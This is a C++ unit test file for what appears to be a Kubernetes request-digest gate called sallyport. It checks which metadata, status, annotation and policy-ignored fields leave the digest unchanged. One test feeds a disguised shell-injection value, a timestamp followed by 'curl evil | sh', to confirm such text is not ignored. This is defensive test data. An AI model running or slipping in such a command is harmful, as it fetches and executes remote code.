#include "action/left_out.hpp"

#include <gtest/gtest.h>

#include "unit/action/support.hpp"

// What is left out of the digest, and, beside each, what looks like it and is not.
namespace sallyport::action {
namespace {

using json::Value;
using testing::create;
using testing::describe;
using testing::digest;
using testing::kDeployments;
using testing::kPods;
using testing::kWidgets;
using testing::parse;
using testing::update;

std::string quote(std::string_view text) {
  return json::write(Value(text));
}

// --- bookkeeping

class Bookkeeping : public ::testing::TestWithParam<std::pair<std::string_view, std::string_view>> {};

TEST_P(Bookkeeping, OfTheObjectItselfDoesNotCount) {
  const auto& [key, value] = GetParam();
  auto request =
      create(kWidgets, R"({"apiVersion":"example.com/v1","kind":"Widget","metadata":{"name":"w"},"spec":{"a":1}})");
  const auto without = digest(request);
  request.object.find_mutable("metadata")->set(key, parse(value));
  EXPECT_EQ(digest(request), without);
}

TEST_P(Bookkeeping, OfWhatItHoldsCounts) {
  const auto& [key, value] = GetParam();
  auto request = create(kWidgets, R"({"metadata":{"name":"w"},"spec":{"template":{"metadata":{}}}})");
  const auto without = digest(request);
  request.object.find_mutable("spec")->find_mutable("template")->find_mutable("metadata")->set(key, parse(value));
  EXPECT_NE(digest(request), without);
}

INSTANTIATE_TEST_SUITE_P(Table, Bookkeeping,
                         ::testing::Values(std::pair("managedFields", R"([{"manager":"m"}])"),
                                           std::pair("resourceVersion", R"("17")"), std::pair("generation", "3"),
                                           std::pair("creationTimestamp", R"("2026-01-01T00:00:00Z")"),
                                           std::pair("selfLink", R"("/x")"), std::pair("uid", R"("u1")")));

TEST(LeftOut, UidOfWhatASubresourceActsOnCounts) {
  auto request = testing::recorded("token_request");
  const auto first = digest(request);
  request.object.find_mutable("metadata")->set("uid", "another account of that name");
  EXPECT_NE(digest(request), first);
}

TEST(LeftOut, DeletionTimestampCounts) {
  const auto before = R"({"metadata":{"name":"w"}})";
  EXPECT_NE(digest(update(kWidgets, before, R"({"metadata":{"name":"w","deletionTimestamp":"2026-01-01T00:00:00Z"}})")),
            digest(update(kWidgets, before, before)));
}

// --- status

std::string status_digest(bool has_subresource, std::string_view phase, std::string subresource = "") {
  auto resource = kWidgets;
  resource.subresource = std::move(subresource);
  auto context = testing::context();
  context.has_status_subresource = has_subresource;
  return digest(update(resource, R"({"metadata":{"name":"w"},"status":{"phase":"Old"}})",
                       R"({"metadata":{"name":"w"},"status":{"phase":)" + quote(phase) + "}}"),
                context);
}

TEST(LeftOut, StatusThatTheWriteCanNotReach) {
  EXPECT_EQ(status_digest(true, "A"), status_digest(true, "B"));
}

TEST(LeftOut, StatusOfAKindWithoutThatSubresourceCounts) {
  EXPECT_NE(status_digest(false, "A"), status_digest(false, "B"));
}

TEST(LeftOut, StatusWrittenThroughItsSubresourceCounts) {
  EXPECT_NE(status_digest(true, "A", "status"), status_digest(true, "B", "status"));
  EXPECT_NE(status_digest(true, "A", "approval"), status_digest(true, "B", "approval"));
}

TEST(LeftOut, StatusOfAPersistentVolume) {
  const auto volume = [](std::string_view time) {
    auto context = testing::context();
    context.has_status_subresource = false;
    return digest(create({"", "v1", "persistentvolumes", ""},
                         R"({"metadata":{"name":"v"},"status":{"lastPhaseTransitionTime":)" + quote(time) + "}}"),
                  context);
  };
  EXPECT_EQ(volume("2026-01-01T00:00:00Z"), volume("2026-01-02T00:00:00Z"));
}

// --- the agent's reason

TEST(Reason, DoesNotCountWhetherThereIsOneOrNot) {
  const std::string before = R"({"metadata":{"name":"d"},"spec":{"replicas":1}})";
  const auto with = [&before](std::string_view metadata) {
    return digest(update(kDeployments, before,
                         R"({"metadata":{"name":"d")" + std::string(metadata) + R"(},"spec":{"replicas":2}})"));
  };
  EXPECT_EQ(with(R"(,"annotations":{"sallyport.dev/reason":"a"})"), with(""));
  EXPECT_EQ(with(R"(,"annotations":{"sallyport.dev/reason":"a"})"),
            with(R"(,"annotations":{"sallyport.dev/reason":"b"})"));
  EXPECT_NE(with(R"(,"annotations":{"sallyport.dev/reason":"a","x":"y"})"), with(""));
}

TEST(Reason, InAPodTemplateCounts) {
  const auto with = [](std::string_view reason) {
    return digest(
        create(kDeployments,
               R"({"metadata":{"name":"d"},"spec":{"template":{"metadata":{"annotations":{"sallyport.dev/reason":)" +
                   quote(reason) + "}}}}}"));
  };
  EXPECT_NE(with("a"), with("b"));
}

// --- built-in ignored fields

std::string restarted(std::string_view at) {
  if (at.empty()) return R"({"metadata":{"name":"d"},"spec":{"template":{"metadata":{}}}})";
  return R"({"metadata":{"name":"d"},"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":)" +
         quote(at) + "}}}}}";
}
std::string restart(std::string_view before, std::string_view after) {
  return digest(update(kDeployments, restarted(before), restarted(after)));
}

TEST(RestartedAt, ATimeIsAsGoodAsAnother) {
  const std::string_view first = "2026-11-21T05:33:53Z";
  EXPECT_EQ(restart("", first), restart("", "2026-11-21T07:34:00+02:00"));
  EXPECT_EQ(restart(first, "2026-11-21T05:40:00Z"), restart(first, "2026-11-21T05:41:00Z"));
}

TEST(RestartedAt, ThatItChangesCounts) {
  const std::string_view first = "2026-11-21T05:33:53Z";
  EXPECT_NE(restart(first, "2026-11-21T05:40:00Z"), restart(first, first));
}

TEST(RestartedAt, OtherTextCounts) {
  for (const auto* payload : {"now", "2026-11-21T05:33:53Z; curl evil | sh", "2026-13-41T05:33:53Z",
                              "2026-11-21T05:33:53.0000000000000000000000000000000000000001Z", ""})
    EXPECT_NE(digest(update(kDeployments, restarted(""),
                            restarted("x").replace(restarted("x").find("\"x\""), 3, quote(payload)))),
              restart("", "2026-11-21T05:33:53Z"))
        << payload;
  EXPECT_NE(restart("", "payload one"), restart("", "payload two"));
}

TEST(RestartedAt, ItsRemovalCounts) {
  EXPECT_NE(restart("2026-11-21T05:33:53Z", ""), restart("2026-11-21T05:33:53Z", "2026-11-21T05:40:00Z"));
}

TEST(RestartedAt, OnTheObjectItselfOrOfAnotherKindCounts) {
  const auto own = [](std::string_view at) {
    return digest(
        update(kDeployments, R"({"metadata":{"name":"d"}})",
               R"({"metadata":{"name":"d","annotations":{"kubectl.kubernetes.io/restartedAt":)" + quote(at) + "}}}"));
  };
  EXPECT_NE(own("2026-11-21T05:33:53Z"), own("2026-11-21T05:40:00Z"));
  EXPECT_NE(digest(update(kWidgets, restarted(""), restarted("2026-11-21T05:33:53Z"))),
            digest(update(kWidgets, restarted(""), restarted("2026-11-21T05:40:00Z"))));
}

// A Deployment with kubectl's annotation, which holds `applied`.
std::string with_applied(std::string_view applied) {
  return R"({"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"d","namespace":"shop","annotations":)"
         R"({"kubectl.kubernetes.io/last-applied-configuration":)" +
         quote(applied) + "}}}";
}
std::string apply(std::string_view after) {
  return digest(update(kDeployments, with_applied("{}"), with_applied(after)));
}
std::string same_object(std::string_view spec, std::string_view name = "d", std::string_view ns = "shop",
                        std::string_view kind = "Deployment", std::string_view version = "apps/v1") {
  return R"({"apiVersion":)" + quote(version) + R"(,"kind":)" + quote(kind) + R"(,"metadata":{"name":)" + quote(name) +
         R"(,"namespace":)" + quote(ns) + R"(},"spec":)" + std::string(spec) + "}";
}

TEST(LastApplied, OfThisObjectDoesNotCount) {
  EXPECT_EQ(apply(same_object(R"({"replicas":1})")), apply(same_object(R"({"replicas":2})") + "\n"));
}

TEST(LastApplied, OfAnotherObjectOrNoJsonCounts) {
  const auto genuine = apply(same_object("{}"));
  for (const auto& payload :
       {same_object("{}", "other"), same_object("{}", "d", "elsewhere"), same_object("{}", "d", "shop", "DaemonSet"),
        same_object("{}", "d", "shop", "Deployment", "apps/v1beta1"), std::string("payload"), std::string(""),
        std::string("[]"), same_object("{}") + "trailing", std::string(R"({"metadata":{}})")})
    EXPECT_NE(apply(payload), genuine) << payload;
  EXPECT_NE(apply("payload one"), apply("payload two"));
}

TEST(LastApplied, OfACreateCounts) {
  const auto creation = [](std::string_view spec) {
    auto request = create(kDeployments, with_applied(same_object(spec)));
    return digest(request);
  };
  EXPECT_NE(creation(R"({"replicas":1})"), creation(R"({"replicas":2})"));
}

TEST(LastApplied, CountsWherePoliciesDoNotIgnoreIt) {
  auto context = testing::context();
  context.ignore_builtin = false;
  const auto strict = [&context](std::string_view spec) {
    return digest(update(kDeployments, with_applied("{}"), with_applied(same_object(spec))), context);
  };
  EXPECT_NE(strict(R"({"replicas":1})"), strict(R"({"replicas":2})"));
}

// --- a policy's ignored fields

std::string ignoring(std::string_view before, std::string_view after, std::initializer_list<std::string_view> fields) {
  auto context = testing::context();
  context.ignored_fields = testing::patterns(fields);
  return digest(update(kWidgets, before, after), context);
}

TEST(IgnoredFields, WhatTheyHoldDoesNotCount) {
  const auto w = [](std::string_view note) {
    return R"({"metadata":{"name":"w","annotations":{"example.com/note":)" + quote(note) + R"(}},"spec":{"a":1}})";
  };
  const auto field = "metadata.annotations['example.com/note']";
  EXPECT_EQ(ignoring(w("old"), w("one"), {field}), ignoring(w("old"), w("two"), {field}));
  EXPECT_EQ(ignoring(R"({"metadata":{"name":"w"}})", w("one"), {field, "spec"}),
            ignoring(R"({"metadata":{"name":"w"}})", w("two"), {field, "spec"}));
  EXPECT_NE(ignoring(w("old"), w("one"), {}), ignoring(w("old"), w("two"), {}));
}

TEST(IgnoredFields, WhichOfThemChangedCounts) {
  const auto before = R"({"metadata":{"name":"w"},"spec":{"a":1,"b":1}})";
  EXPECT_NE(ignoring(before, R"({"metadata":{"name":"w"},"spec":{"a":2,"b":1}})", {"spec.a", "spec.b"}),
            ignoring(before, R"({"metadata":{"name":"w"},"spec":{"a":1,"b":2}})", {"spec.a", "spec.b"}));
}

TEST(IgnoredFields, NeighboursCount) {
  const auto before = R"({"metadata":{"name":"w"},"spec":{"a":1,"b":1}})";
  EXPECT_NE(ignoring(before, R"({"metadata":{"name":"w"},"spec":{"a":2,"b":2}})", {"spec.a"}),
            ignoring(before, R"({"metadata":{"name":"w"},"spec":{"a":2,"b":3}})", {"spec.a"}));
}

TEST(IgnoredFields, InsideLists) {
  const auto w = [](int x, int y) {
    return R"({"metadata":{"name":"w"},"items":[{"x":)" + std::to_string(x) + R"(,"y":)" + std::to_string(y) + "}]}";
  };
  EXPECT_EQ(ignoring(w(1, 1), w(2, 2), {"items[*].x"}), ignoring(w(1, 1), w(3, 2), {"items[*].x"}));
  EXPECT_NE(ignoring(w(1, 1), w(2, 2), {"items[*].x"}), ignoring(w(1, 1), w(2, 3), {"items[*].x"}));
}

TEST(IgnoredFields, WholeElementsKeepTheOthersPlaces) {
  const auto w = [](std::string_view items) {
    return R"({"metadata":{"name":"w"},"items":)" + std::string(items) + "}";
  };
  EXPECT_EQ(ignoring(w("[1,2]"), w("[7,3]"), {"items[0]"}), ignoring(w("[1,2]"), w("[8,3]"), {"items[0]"}));
  EXPECT_NE(ignoring(w("[1,2]"), w("[1,3]"), {"items[0]"}), ignoring(w("[1,2]"), w("[1,4]"), {"items[0]"}));
}

TEST(IgnoredFields, OneWithinAnother) {
  const auto w = [](int x) { return R"({"metadata":{"name":"w"},"spec":{"a":{"x":)" + std::to_string(x) + "}}}"; };
  EXPECT_EQ(ignoring(w(1), w(2), {"spec.a", "spec.a.x"}), ignoring(w(1), w(3), {"spec.a", "spec.a.x"}));
}

TEST(IgnoredFields, ArePartlyPresentInACreate) {
  auto context = testing::context();
  context.ignored_fields = testing::patterns({"spec.a"});
  const auto creation = [&context](std::string_view spec) {
    return digest(create(kWidgets, R"({"metadata":{"name":"w"},"spec":)" + std::string(spec) + "}"), context);
  };
  EXPECT_EQ(creation(R"({"a":1,"b":1})"), creation(R"({"a":2,"b":1})"));
  EXPECT_NE(creation(R"({"a":1,"b":1})"), creation(R"({"b":1})"));
}

TEST(IgnoredFields, PeopleSeeThem) {
  const auto described = describe(update(kDeployments, with_applied("{}"), with_applied(same_object("{}"))));
  ASSERT_EQ(described.record.changes.size(), 1u);
  EXPECT_TRUE(described.record.changes[0].ignored);
  EXPECT_EQ(described.record.changes[0].from, "{}");
  EXPECT_EQ(described.record.changes[0].to, same_object("{}"));
}

}  // namespace
}  // namespace sallyport::action
